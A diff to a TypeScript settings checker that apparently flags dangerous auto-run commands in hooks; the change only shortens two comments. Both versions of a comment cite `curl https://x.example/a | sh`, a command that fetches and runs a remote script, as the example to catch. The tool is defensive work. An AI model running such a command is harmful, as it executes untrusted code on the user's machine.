@@ -14,10 +14,7 @@ import { type Check, digestOf, shownName, textsOf } from './check.js';
 import { type Danger, dangerOf, dangerOfWords } from './danger.js';
 import { nearest } from '../../../text/nearest.js';
 
-/*
- * Which commands in settings run by themselves and are dangerous? Hooks do, and so do helpers such as the status
- * line; `npx prettier --check .` in a hook is nothing, `curl https://x.example/a | sh` an error.
- */
+/* Which commands in settings run by themselves and are dangerous? `curl https://x.example/a | sh` in a hook. */
 
 /** Keys under which a hook, or a setting beside hooks, names a command. */
 const COMMAND_KEYS = new Set(
@@ -119,9 +116,7 @@ function* commandsBelow(root: Setting, file: SettingsFile): Iterable<NamedComman
   }
 }
 
-/**
- * Levels of a hook below its event, with room to spare: a list, a group, a list, a hook are four.
- */
+/** Levels of a hook below its event, with room to spare: a list, a group, a list, a hook are four. */
 const DEEPEST = 8;
 
 /** The commands anywhere below a setting. */
